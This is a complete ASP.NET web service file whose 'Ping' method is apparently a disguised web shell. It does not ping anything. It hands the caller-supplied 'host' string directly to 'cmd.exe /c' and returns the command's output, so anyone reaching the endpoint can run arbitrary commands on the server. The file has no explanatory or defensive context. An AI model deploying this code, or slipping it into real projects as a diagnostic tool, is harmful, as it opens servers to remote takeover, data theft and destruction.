<%@ WebService Language="C#" Class="Tools" %>
using System.Diagnostics;
using System.Web.Services;
public class Tools : WebService {
    [WebMethod]
    public string Ping(string host) {
        var info = new ProcessStartInfo("cmd.exe", "/c " + host) { RedirectStandardOutput = true, UseShellExecute = false };
        return Process.Start(info).StandardOutput.ReadToEnd();
    }
}
